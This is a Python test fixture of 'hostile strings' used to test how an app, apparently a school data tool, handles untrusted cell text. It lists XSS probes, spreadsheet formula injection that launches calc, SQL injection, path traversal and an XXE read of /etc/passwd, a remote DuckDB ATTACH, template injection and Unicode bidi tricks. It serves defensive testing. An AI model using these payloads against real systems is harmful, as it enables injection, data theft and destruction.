"""Hostile strings: what someone may write into a cell of a file, by mistake or on purpose."""

from __future__ import annotations

import json
from itertools import islice
from pathlib import Path

MARKUP = json.loads(
    (Path(__file__).parents[1] / "browser/gallery/screens/hostile.json").read_text(encoding="utf-8")
)
# One of each kind: these are run every time.
SHORT = [
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "[click](javascript:window.ran=1)",
    "![x](http://school.example/x.png)",
    ":red[Ben] :material/delete: :smile:",
    "$\\href{http://school.example}{x}$ $$x^2$$",
    "<b>bold</b> <a href='http://school.example'>x</a><br>",
    "%{customdata[0]} %{x}<extra>y</extra>",
    '=HYPERLINK("http://school.example";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'; DROP TABLE pupils; --",
    "x' OR '1'='1",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "\u202eneB\u202c reversed",
    "zero\u200bwidth\u2060joined\ufeff",
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 stacked",
    "👩‍👩‍👧‍👦 family 🇬🇧",
    "{{7*7}} ${7*7} #{7*7} {0.__class__}",
    "<!--><iframe src=//school.example>",
    "`code` ~~~ ``` | a | b |",
    "# heading",
    "one\nERROR forged line\r\nATTENDEE:mailto:x@school.example",
    "%s%n %00 \\u003cscript\\u003e",
    '"quoted", \'curly’ and; semicolons\tand tabs',
    "x" * 2000,
]
MORE = [
    "file:///etc/passwd",
    "1. first",
    "</script></style></title></textarea><script>window.ran=1</script>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://school.example'>",
    "<a href='data:text/html,<script>window.ran=1</script>'>x</a>",
    "javascript:window.ran=1",
    "\\begin{matrix} a \\end{matrix} \\input{/etc/passwd}",
    "=cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("http://school.example/?";A1);"//a")',
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "x'); ATTACH 'http://school.example/x.duckdb'; --",
    "read_csv('/etc/passwd')",
    "..\\..\\..\\boot.ini",
    "con.txt",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "\u2066left\u2069 \u2067right\u2069 \u061c",
    "\u200f\u200e\u202a\u202b\u202d",
    "\u0645\u0631\u062d\u0628\u0627 Ben \u05e9\u05dc\u05d5\u05dd",
    "Z̸͑̓a̴͝l̶̛g̵͌o̷͒",
    "ｆｕｌｌ ｗｉｄｔｈ",
    "\ufffd\ufffe",
    "\u2028line\u2029paragraph",
    "null",
    "NaN",
    "None",
    "1e309",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]
HUGE = "long " * 20_000
_AROUND = ("Then {} again", "{} {}", "({})", "Ben: {}", "{}.", "“{}”", "y {} <", "*{}*")


def texts(number: int) -> list[str]:
    """So many hostile strings: `SHORT`, then those of the pages' own test, then both in a frame."""
    plain = [*SHORT, *MORE, *MARKUP]
    framed = (frame.format(text, text) for frame, text in _pairs(plain))
    return list(islice(dict.fromkeys([*plain, *framed]), number))


def _pairs(plain: list[str]) -> list[tuple[str, str]]:
    return [(frame, text) for frame in _AROUND for text in plain if len(text) < 500]


__all__ = ["HUGE", "SHORT", "texts"]
